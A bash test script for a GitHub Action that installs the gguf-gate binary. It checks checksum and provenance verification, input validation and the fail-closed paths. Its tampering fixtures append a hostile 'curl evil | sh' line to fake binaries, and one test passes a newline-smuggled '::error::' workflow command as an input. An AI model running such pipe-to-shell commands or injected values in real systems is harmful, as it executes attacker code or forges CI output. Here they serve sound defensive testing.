#!/usr/bin/env bash
# Tests of the GitHub Action's shell logic (scripts/action/run.sh) without GitHub and
# without `gguf-gate check`: a fake release folder holds a fake `gguf-gate` (a shell
# script that records its arguments and writes $GITHUB_OUTPUT like the real one) and a
# SHA256SUMS. Checks that a verified binary runs with the right arguments, that any
# checksum problem or unsupported runner fails closed before anything runs, and that
# `version: source` builds with cargo install (reusing this repo's target/ directory).
# Usage: bash scripts/action/test.sh      Prints "N passed, M failed"; non-zero on failure.
set -euo pipefail
cd "$(dirname "$0")/../.."
repo="$(pwd)"
run_sh="$repo/scripts/action/run.sh"

tmp="$(mktemp -d)"
trap 'rm -rf "$tmp"' EXIT
passed=0
failed=0

ok() {
  passed=$((passed + 1))
  echo "ok   - $1"
}
not_ok() {
  failed=$((failed + 1))
  echo "FAIL - $1"
  if [ -n "${2:-}" ]; then printf '%s\n' "$2" | sed 's/^/       /'; fi
}

# --- the fake release --------------------------------------------------------------
# The fake binary: records one argument per line in $FAKE_ARGS, writes the outputs the
# real `check --format github` writes, and exits with $FAKE_EXIT (default 0).
fake_bin() {
  cat <<'SH'
#!/usr/bin/env bash
# Fake gguf-gate for scripts/action/test.sh.
set -euo pipefail
printf '%s\n' "$@" >"$FAKE_ARGS"
rc="${FAKE_EXIT:-0}"
if [ "$rc" = 0 ]; then passed=true; else passed=false; fi
{
  echo "passed=$passed"
  echo "fingerprint=sha256-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
  prev=""
  for a in "$@"; do
    case "$prev" in --sarif) echo "sarif=$a" ;; --junit) echo "junit=$a" ;; --json) echo "json=$a" ;; esac
    prev="$a"
  done
} >>"$GITHUB_OUTPUT"
exit "$rc"
SH
}

targets="x86_64-unknown-linux-gnu aarch64-unknown-linux-gnu x86_64-apple-darwin aarch64-apple-darwin x86_64-pc-windows-msvc"
rel="$tmp/release"
mkdir -p "$rel"
for t in $targets; do
  name="gguf-gate-$t"
  case "$t" in *windows*) name="$name.exe" ;; esac
  # One byte differs per asset so that each has its own checksum.
  { fake_bin; echo "# $t"; } >"$rel/$name"
  chmod +x "$rel/$name"
done
(cd "$rel" && sha256sum gguf-gate-* >SHA256SUMS)

# A copy of the release folder to damage in one test.
copy_release() {
  rm -rf "$tmp/$1"
  cp -r "$rel" "$tmp/$1"
  echo "$tmp/$1"
}

# --- running the action script -----------------------------------------------------
# run_action CASE [VAR=value ...]: run run.sh in a clean environment as a Linux x64 runner
# would, with the fake release. Sets RC, OUT (stdout+stderr), GHOUT (the $GITHUB_OUTPUT
# file) and ARGS (the file the fake binary records its arguments in).
run_action() {
  local case="$1"
  shift
  local d="$tmp/case-$case"
  rm -rf "$d"
  mkdir -p "$d/runner"
  GHOUT="$d/github_output"
  ARGS="$d/args"
  : >"$GHOUT"
  RC=0
  OUT="$(env -i PATH="$PATH" HOME="$HOME" \
    RUNNER_OS=Linux RUNNER_ARCH=X64 RUNNER_TEMP="$d/runner" \
    GITHUB_OUTPUT="$GHOUT" FAKE_ARGS="$ARGS" \
    GGUF_GATE_RELEASE_BASE="$rel" GGUF_GATE_VERSION=v1.2.3 GGUF_GATE_MODEL=model.gguf \
    "$@" bash "$run_sh" 2>&1)" || RC=$?
}

# expect_args NAME ARG...: the fake binary was run with exactly these arguments.
expect_args() {
  local name="$1"
  shift
  local want got
  want="$(printf '%s\n' "$@")"
  if [ ! -f "$ARGS" ]; then
    not_ok "$name" "the binary was not run (rc=$RC): $OUT"
    return
  fi
  got="$(cat "$ARGS")"
  if [ "$got" = "$want" ]; then ok "$name"; else not_ok "$name" "want args:
$want
got args:
$got"; fi
}

# expect_rc NAME CODE: the action exited with CODE.
expect_rc() {
  if [ "$RC" = "$2" ]; then ok "$1"; else not_ok "$1" "want exit $2, got $RC: $OUT"; fi
}

# expect_out NAME TEXT: the action's log contains TEXT.
expect_out() {
  if grep -qF -- "$2" <<<"$OUT"; then ok "$1"; else not_ok "$1" "log lacks '$2': $OUT"; fi
}

# expect_line NAME FILE LINE: FILE has this exact line.
expect_line() {
  if grep -qxF -- "$3" "$2" 2>/dev/null; then ok "$1"; else not_ok "$1" "$2 lacks the line '$3': $(cat "$2" 2>/dev/null)"; fi
}

# expect_not_run NAME: nothing was executed and nothing installed.
expect_not_run() {
  if [ -e "$ARGS" ]; then
    not_ok "$1" "the binary ran although it was not verified"
  elif [ -e "$tmp/case-$CASE/runner/gguf-gate-v1.2.3/gguf-gate" ]; then
    not_ok "$1" "an unverified binary was installed under its final name"
  else
    ok "$1"
  fi
}

echo "== action script: verified release binary"
CASE=pass
run_action $CASE GGUF_GATE_SARIF=out/report.sarif
expect_rc "correct checksum: exit 0" 0
expect_args "defaults: check MODEL --fail-level error --sarif PATH --format github, no --strict" \
  check model.gguf --fail-level error --sarif out/report.sarif --format github
expect_line "GITHUB_OUTPUT has passed=true" "$GHOUT" "passed=true"
expect_line "GITHUB_OUTPUT has the fingerprint" "$GHOUT" \
  "fingerprint=sha256-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
expect_line "GITHUB_OUTPUT has the sarif path" "$GHOUT" "sarif=out/report.sarif"
expect_out "log names the verified sha256" "verified sha256 $(sha256sum <"$rel/gguf-gate-x86_64-unknown-linux-gnu" | cut -d' ' -f1)"
if cmp -s "$rel/gguf-gate-x86_64-unknown-linux-gnu" "$tmp/case-pass/runner/gguf-gate-v1.2.3/gguf-gate"; then
  ok "installed binary is the Linux x86_64 asset, under RUNNER_TEMP"
else
  not_ok "installed binary is the Linux x86_64 asset, under RUNNER_TEMP"
fi

CASE=all-inputs
run_action $CASE GGUF_GATE_RELEASE_BASE="file://$rel" GGUF_GATE_STRICT=true \
  GGUF_GATE_POLICY=policy.yaml GGUF_GATE_TOKENIZER=tok/tokenizer.json \
  GGUF_GATE_FAIL_LEVEL=warning GGUF_GATE_SARIF=r.sarif GGUF_GATE_JUNIT=r.xml \
  GGUF_GATE_JSON=r.json GGUF_GATE_HTML=r.html GGUF_GATE_MODEL="models/my model.gguf"
expect_rc "file:// release base: exit 0" 0
expect_args "every input forwarded, --strict when strict=true, path with a space kept whole" \
  check "models/my model.gguf" --policy policy.yaml --tokenizer tok/tokenizer.json --strict \
  --fail-level warning --sarif r.sarif --junit r.xml --json r.json --html r.html --format github
expect_line "GITHUB_OUTPUT has the junit path" "$GHOUT" "junit=r.xml"
expect_line "GITHUB_OUTPUT has the json path" "$GHOUT" "json=r.json"

CASE=dash-model
run_action $CASE GGUF_GATE_MODEL=-weird.gguf
expect_args "a model path starting with '-' is not taken for an option" \
  check ./-weird.gguf --fail-level error --format github

CASE=newline
run_action $CASE GGUF_GATE_MODEL=$'evil\n::error::injected.gguf' GGUF_GATE_STRICT=$'no\n::error::injected'
expect_rc "a value with a newline: still an input error" 2
if grep -q '^::error::injected' <<<"$OUT"; then
  not_ok "a newline in an input cannot start a workflow command" "$OUT"
else
  ok "a newline in an input cannot start a workflow command"
fi
expect_out "a newline in an input is shown escaped" "not \"no%0A::error::injected\""

CASE=several-models
run_action $CASE GGUF_GATE_MODEL=$'models/a.gguf\n\n  models/b 2.gguf  \n-c.gguf\nrelease/*.gguf\n'
expect_args "one model per line (blank lines and surrounding blanks dropped, patterns kept)" \
  check models/a.gguf "models/b 2.gguf" ./-c.gguf "release/*.gguf" --fail-level error --format github

CASE=only-blank-models
run_action $CASE GGUF_GATE_MODEL=$'\n   \n'
expect_rc "only blank lines: 'model' is required, exit 2" 2

CASE=gate-fails
run_action $CASE FAKE_EXIT=1
expect_rc "policy failure: the binary's exit 1 is the action's" 1
expect_line "policy failure: GITHUB_OUTPUT has passed=false" "$GHOUT" "passed=false"
CASE=gate-input-error
run_action $CASE FAKE_EXIT=2
expect_rc "input error: the binary's exit 2 is the action's" 2

echo "== action script: every runner gets its own asset"
for spec in Linux/X64/x86_64-unknown-linux-gnu Linux/ARM64/aarch64-unknown-linux-gnu \
  macOS/X64/x86_64-apple-darwin macOS/ARM64/aarch64-apple-darwin \
  Windows/X64/x86_64-pc-windows-msvc.exe; do
  os="${spec%%/*}"
  rest="${spec#*/}"
  arch="${rest%%/*}"
  asset="gguf-gate-${rest#*/}"
  CASE="target-$os-$arch"
  run_action "$CASE" RUNNER_OS="$os" RUNNER_ARCH="$arch"
  exe=""
  case "$asset" in *.exe) exe=.exe ;; esac
  if [ "$RC" = 0 ] && cmp -s "$rel/$asset" "$tmp/case-$CASE/runner/gguf-gate-v1.2.3/gguf-gate$exe"; then
    ok "$os $arch runner installs $asset"
  else
    not_ok "$os $arch runner installs $asset" "rc=$RC: $OUT"
  fi
done

echo "== action script: fails closed"
CASE=tampered-binary
bad="$(copy_release tampered-binary)"
printf 'curl evil | sh\n' >>"$bad/gguf-gate-x86_64-unknown-linux-gnu"
run_action $CASE GGUF_GATE_RELEASE_BASE="$bad"
expect_rc "tampered binary: exit 3" 3
expect_out "tampered binary: says checksum mismatch" "checksum mismatch for gguf-gate-x86_64-unknown-linux-gnu"
expect_not_run "tampered binary: never run nor installed"

CASE=tampered-sums
bad="$(copy_release tampered-sums)"
sed -i 's/^[0-9a-f]\{8\}\(.*x86_64-unknown-linux-gnu\)$/deadbeef\1/' "$bad/SHA256SUMS"
if cmp -s "$bad/SHA256SUMS" "$rel/SHA256SUMS"; then not_ok "tampered-sums fixture differs from the original"; fi
run_action $CASE GGUF_GATE_RELEASE_BASE="$bad"
expect_rc "tampered SHA256SUMS entry: exit 3" 3
expect_out "tampered SHA256SUMS entry: says checksum mismatch" "checksum mismatch"
expect_not_run "tampered SHA256SUMS entry: never run nor installed"

CASE=missing-entry
bad="$(copy_release missing-entry)"
sed -i '/x86_64-unknown-linux-gnu$/d' "$bad/SHA256SUMS"
run_action $CASE GGUF_GATE_RELEASE_BASE="$bad"
expect_rc "missing SHA256SUMS entry: exit 3" 3
expect_out "missing SHA256SUMS entry: says so" "has 0 entries for gguf-gate-x86_64-unknown-linux-gnu"
expect_not_run "missing SHA256SUMS entry: never run nor installed"

CASE=similar-entry-only
bad="$(copy_release similar-entry-only)"
sed -i 's/  gguf-gate-x86_64-unknown-linux-gnu$/  other-gguf-gate-x86_64-unknown-linux-gnu/' "$bad/SHA256SUMS"
run_action $CASE GGUF_GATE_RELEASE_BASE="$bad"
expect_rc "an entry for a longer name does not count: exit 3" 3
expect_out "an entry for a longer name does not count: 0 entries" "has 0 entries for gguf-gate-x86_64-unknown-linux-gnu"

CASE=duplicate-entry
bad="$(copy_release duplicate-entry)"
line="$(grep 'x86_64-unknown-linux-gnu$' "$rel/SHA256SUMS")"
printf '%s\n' "$line" >>"$bad/SHA256SUMS"
run_action $CASE GGUF_GATE_RELEASE_BASE="$bad"
expect_rc "duplicate SHA256SUMS entry: exit 3" 3
expect_out "duplicate SHA256SUMS entry: says so" "has 2 entries"

CASE=no-sums
bad="$(copy_release no-sums)"
rm "$bad/SHA256SUMS"
run_action $CASE GGUF_GATE_RELEASE_BASE="$bad"
expect_rc "no SHA256SUMS: exit 3" 3
expect_out "no SHA256SUMS: says it cannot download it" "cannot download $bad/SHA256SUMS"
expect_not_run "no SHA256SUMS: never run nor installed"

CASE=no-asset
bad="$(copy_release no-asset)"
rm "$bad/gguf-gate-x86_64-unknown-linux-gnu"
run_action $CASE GGUF_GATE_RELEASE_BASE="file://$bad"
expect_rc "asset missing from the release: exit 3" 3
expect_out "asset missing from the release: says it cannot download it" "cannot download file://$bad/gguf-gate-x86_64-unknown-linux-gnu"

CASE=http
run_action $CASE GGUF_GATE_RELEASE_BASE="http://127.0.0.1:9/release"
expect_rc "plain http release base refused: exit 3" 3

echo "== action script: build provenance (attestations) and test hooks"
# A fake GitHub CLI: `gh attestation verify FILE --repo R --signer-workflow W` succeeds
# only when FILE's sha256 is one the (fake) release workflow attested, listed in
# $FAKE_ATTESTED; it records its arguments in $FAKE_GH_ARGS.
# A fake curl: serves https://github.com/acme/gguf-gate/releases/download/v1.2.3/NAME
# from $FAKE_GITHUB/NAME and records every URL and its --proto in $FAKE_CURL_LOG.
fakes="$tmp/fake-tools"
mkdir -p "$fakes"
cat >"$fakes/gh" <<'SH'
#!/usr/bin/env bash
printf '%s\n' "$@" >"$FAKE_GH_ARGS"
[ "$1 $2" = "attestation verify" ] || exit 1
digest="$(sha256sum <"$3" | cut -d' ' -f1)"
if grep -qx "$digest" "$FAKE_ATTESTED"; then echo "Loaded 1 attestation from GitHub API" >&2; exit 0; fi
echo "Error: no attestations found for sha256:$digest" >&2
exit 1
SH
cat >"$fakes/curl" <<'SH'
#!/usr/bin/env bash
out="" proto="" url=""
while [ $# -gt 0 ]; do
  case "$1" in
    -o) out="$2"; shift ;;
    --proto) proto="$2"; shift ;;
    --proto-redir | --retry) shift ;;
    -*) ;;
    *) url="$1" ;;
  esac
  shift
done
echo "$proto $url" >>"$FAKE_CURL_LOG"
prefix="https://github.com/acme/gguf-gate/releases/download/v1.2.3/"
case "$url" in "$prefix"*) cp -- "$FAKE_GITHUB/${url#"$prefix"}" "$out" ;; *) exit 22 ;; esac
SH
chmod +x "$fakes/gh" "$fakes/curl"
attested="$tmp/attested"
(cd "$rel" && for f in gguf-gate-*; do sha256sum <"$f" | cut -d' ' -f1; done) >"$attested"

# An attacker's release: a tampered binary with a SHA256SUMS that matches it.
evil="$(copy_release evil)"
printf 'curl evil | sh\n' >>"$evil/gguf-gate-x86_64-unknown-linux-gnu"
(cd "$evil" && sha256sum gguf-gate-* >SHA256SUMS)

# gh_env: the variables of a run with the fake gh and curl.
gh_env() {
  printf '%s\n' PATH="$fakes:$PATH" FAKE_ATTESTED="$attested" FAKE_GH_ARGS="$tmp/case-$CASE/gh-args" \
    FAKE_CURL_LOG="$tmp/case-$CASE/curl-log" GGUF_GATE_ACTION_REPOSITORY=acme/gguf-gate GH_TOKEN=t
}

CASE=attested
mapfile -t extra < <(gh_env)
run_action $CASE "${extra[@]}" GGUF_GATE_ATTESTATION=required
expect_rc "attestation required, genuine release: exit 0" 0
expect_out "genuine release: the provenance is verified" "verified build provenance"
expect_line "gh verifies against the action's repository" "$tmp/case-$CASE/gh-args" "acme/gguf-gate"
expect_line "gh requires the release workflow as signer" "$tmp/case-$CASE/gh-args" "acme/gguf-gate/.github/workflows/release.yml"

CASE=tampered-with-sums
mapfile -t extra < <(gh_env)
run_action $CASE "${extra[@]}" GGUF_GATE_ATTESTATION=required GGUF_GATE_RELEASE_BASE="$evil"
expect_rc "tampered binary with a matching SHA256SUMS, attestation required: exit 3" 3
expect_out "tampered binary with matching sums: the sha256 alone passed" "verified sha256"
expect_out "tampered binary with matching sums: refused for its provenance" "has no valid build provenance attestation from acme/gguf-gate's release workflow"
expect_not_run "tampered binary with matching sums: never run nor installed"
if ls "$tmp/case-$CASE/runner/gguf-gate-v1.2.3/"*.download >/dev/null 2>&1; then
  not_ok "tampered binary with matching sums: the download is deleted"
else
  ok "tampered binary with matching sums: the download is deleted"
fi

CASE=no-gh
nogh="$tmp/nogh-bin"
mkdir -p "$nogh"
for tool in bash env cat sed awk grep dirname mkdir rm cp mv chmod sha256sum cut tr wc uname printf ls; do
  if command -v "$tool" >/dev/null 2>&1; then ln -sf "$(command -v "$tool")" "$nogh/$tool"; fi
done
run_action $CASE PATH="$nogh" GGUF_GATE_ATTESTATION=required GGUF_GATE_ACTION_REPOSITORY=acme/gguf-gate
expect_rc "attestation required without gh: exit 3" 3
expect_out "attestation required without gh: says to install gh" "the GitHub CLI (gh) is not on this runner"
expect_not_run "attestation required without gh: never run"

CASE=bad-attestation-input
run_action $CASE GGUF_GATE_ATTESTATION=maybe
expect_rc "attestation=maybe: exit 2" 2

CASE=hooks-in-actions
mapfile -t extra < <(gh_env)
run_action $CASE "${extra[@]}" GITHUB_ACTIONS=true FAKE_GITHUB="$rel" \
  GGUF_GATE_RELEASE_BASE="$evil" GGUF_GATE_INSTALL_DIR="$tmp/case-$CASE/evil-install"
expect_rc "inside GitHub Actions, the genuine release from github.com: exit 0" 0
expect_out "inside GitHub Actions: GGUF_GATE_RELEASE_BASE ignored" "ignoring GGUF_GATE_RELEASE_BASE inside GitHub Actions"
expect_out "inside GitHub Actions: GGUF_GATE_INSTALL_DIR ignored" "ignoring GGUF_GATE_INSTALL_DIR inside GitHub Actions"
expect_line "inside GitHub Actions: downloaded from the action's release over https only" "$tmp/case-$CASE/curl-log" \
  "=https https://github.com/acme/gguf-gate/releases/download/v1.2.3/gguf-gate-x86_64-unknown-linux-gnu"
if [ -e "$tmp/case-$CASE/evil-install" ]; then
  not_ok "inside GitHub Actions: nothing installed where the hook said"
else
  ok "inside GitHub Actions: nothing installed where the hook said"
fi
expect_out "inside GitHub Actions: attestation verified by default (auto)" "verified build provenance"
if cmp -s "$rel/gguf-gate-x86_64-unknown-linux-gnu" "$tmp/case-$CASE/runner/gguf-gate-v1.2.3/gguf-gate"; then
  ok "inside GitHub Actions: the genuine binary is installed"
else
  not_ok "inside GitHub Actions: the genuine binary is installed" "$OUT"
fi

CASE=actions-tampered
mapfile -t extra < <(gh_env)
run_action $CASE "${extra[@]}" GITHUB_ACTIONS=true FAKE_GITHUB="$evil" GGUF_GATE_RELEASE_BASE=
expect_rc "inside GitHub Actions, a tampered release with matching sums: exit 3" 3
expect_not_run "inside GitHub Actions, a tampered release: never run nor installed"

CASE=actions-file-url
mapfile -t extra < <(gh_env)
run_action $CASE "${extra[@]}" GITHUB_ACTIONS=true FAKE_GITHUB="$rel" GGUF_GATE_RELEASE_BASE="file://$evil"
expect_rc "inside GitHub Actions, a file:// release base is ignored: exit 0" 0
if grep -q "file://" "$tmp/case-$CASE/curl-log"; then
  not_ok "inside GitHub Actions: no file:// download" "$(cat "$tmp/case-$CASE/curl-log")"
else
  ok "inside GitHub Actions: no file:// download"
fi

echo "== action script: unsupported runners"
CASE=os
run_action $CASE RUNNER_OS=FreeBSD
expect_rc "unsupported OS: exit 3" 3
expect_out "unsupported OS: named in the error annotation" "::error title=gguf-gate action::unsupported runner OS 'FreeBSD'"
expect_not_run "unsupported OS: nothing run"
CASE=arch
run_action $CASE RUNNER_ARCH=ARM
expect_rc "unsupported arch: exit 3" 3
expect_out "unsupported arch: named" "unsupported runner architecture 'ARM'"
CASE=windows-arm
run_action $CASE RUNNER_OS=Windows RUNNER_ARCH=ARM64
expect_rc "Windows on ARM64 (no release binary): exit 3" 3
expect_out "Windows on ARM64: named" "unsupported runner 'windows/aarch64'"

echo "== action script: inputs"
CASE=no-model
run_action $CASE GGUF_GATE_MODEL=
expect_rc "missing model: exit 2" 2
expect_out "missing model: says it is required" "input 'model' is required"
CASE=bad-strict
run_action $CASE GGUF_GATE_STRICT=yes
expect_rc "strict=yes: exit 2" 2
expect_not_run "strict=yes: nothing run"
CASE=bad-level
run_action $CASE GGUF_GATE_FAIL_LEVEL=fatal
expect_rc "fail-level=fatal: exit 2" 2
CASE=bad-version
run_action $CASE GGUF_GATE_VERSION='v1.2.3/../../evil'
expect_rc "version that is not a tag: exit 2" 2
expect_not_run "version that is not a tag: nothing run"

echo "== action script: which release"
fakeaction="$tmp/action-checkout"
mkdir -p "$fakeaction"
# A `version` key outside [package] comes first: only the package's version counts.
printf '[workspace.dependencies]\nversion = "9"\n\n[package]\nname = "gguf-gate"\nversion = "1.2.3"\n' >"$fakeaction/Cargo.toml"
CASE=ref-tag
run_action $CASE GGUF_GATE_VERSION= GGUF_GATE_ACTION_REF=v1.2.3
expect_rc "ref v1.2.3: exit 0" 0
expect_out "ref v1.2.3: installs release v1.2.3" "installing release v1.2.3 "
CASE=ref-major
run_action $CASE GGUF_GATE_VERSION= GGUF_GATE_ACTION_REF=v1 GGUF_GATE_ACTION_PATH="$fakeaction"
expect_out "ref v1: installs the version of the action's Cargo.toml" "installing release v1.2.3 "
CASE=ref-sha
run_action $CASE GGUF_GATE_VERSION= GGUF_GATE_ACTION_REF=0123456789abcdef0123456789abcdef01234567 \
  GGUF_GATE_ACTION_PATH="$fakeaction"
expect_out "ref <commit sha>: installs the version of the action's Cargo.toml" "installing release v1.2.3 "
CASE=ref-branch
run_action $CASE GGUF_GATE_VERSION= GGUF_GATE_ACTION_REF=main
expect_rc "ref main without a version: exit 2" 2
expect_out "ref main: asks for a version" "set 'version: vX.Y.Z' or 'version: source'"
base="$(env -i PATH="$PATH" GGUF_GATE_ACTION_REPOSITORY=acme/gguf-gate bash -c \
  'source "$1"; VERSION=v1.2.3; release_base' _ "$run_sh")"
if [ "$base" = "https://github.com/acme/gguf-gate/releases/download/v1.2.3" ]; then
  ok "default release base is the action repository's release download URL"
else
  not_ok "default release base is the action repository's release download URL" "got $base"
fi

echo "== action script: version: source"
CASE=source-no-cargo
nocargo="$tmp/nocargo-bin"
mkdir -p "$nocargo"
for tool in bash env cat sed awk grep dirname mkdir rm; do ln -sf "$(command -v "$tool")" "$nocargo/$tool"; done
RC=0
OUT="$(env -i PATH="$nocargo" GGUF_GATE_VERSION=source GGUF_GATE_MODEL=m.gguf \
  RUNNER_TEMP="$tmp" "$nocargo/bash" "$run_sh" 2>&1)" || RC=$?
expect_rc "source without cargo: exit 3" 3
expect_out "source without cargo: says a Rust toolchain is needed" "needs a Rust toolchain"

CASE=source
root="$tmp/source-root"
run_action $CASE GGUF_GATE_VERSION=source GGUF_GATE_RELEASE_BASE= \
  GGUF_GATE_INSTALL_DIR="$root" GGUF_GATE_ACTION_PATH="$repo" \
  CARGO_TARGET_DIR="$repo/target" CARGO_HOME="${CARGO_HOME:-$HOME/.cargo}" \
  RUSTUP_HOME="${RUSTUP_HOME:-$HOME/.rustup}" CARGO_TERM_COLOR=never \
  GGUF_GATE_MODEL="$tmp/missing.gguf" GGUF_GATE_SARIF="$tmp/source.sarif"
expect_out "source: built with cargo install --locked from the action checkout" "building from source in $repo"
want_version="gguf-gate $(sed -n 's/^version = "\(.*\)"/\1/p' Cargo.toml | head -n 1)"
if [ -x "$root/bin/gguf-gate" ] && [ "$("$root/bin/gguf-gate" --version)" = "$want_version" ]; then
  ok "source: installed into the --root given, reports $want_version"
else
  not_ok "source: installed into the --root given, reports $want_version" "$OUT"
fi
if [ -x "$root/bin/gguf-gate" ]; then
  if ldd "$root/bin/gguf-gate" 2>&1 | grep -qE "not a dynamic executable|statically linked"; then
    ok "source: the repo's .cargo/config.toml applied (static binary)"
  else
    not_ok "source: the repo's .cargo/config.toml applied (static binary)" "$(ldd "$root/bin/gguf-gate" 2>&1)"
  fi
  # Whatever `check` answers for a missing model in this build, the action must return
  # exactly what the installed binary returns for the same arguments.
  direct=0
  (cd "$tmp" && GITHUB_OUTPUT=/dev/null "$root/bin/gguf-gate" check "$tmp/missing.gguf" \
    --fail-level error --sarif "$tmp/source.sarif" --format github >/dev/null 2>&1) || direct=$?
  if [ "$RC" = "$direct" ] && [ "$RC" != 0 ]; then
    ok "source: the action ran the built binary (exit $RC, same as running it directly)"
  else
    not_ok "source: the action ran the built binary" "action exit $RC, direct exit $direct: $OUT"
  fi
fi

echo
echo "$passed passed, $failed failed"
[ "$failed" = 0 ]
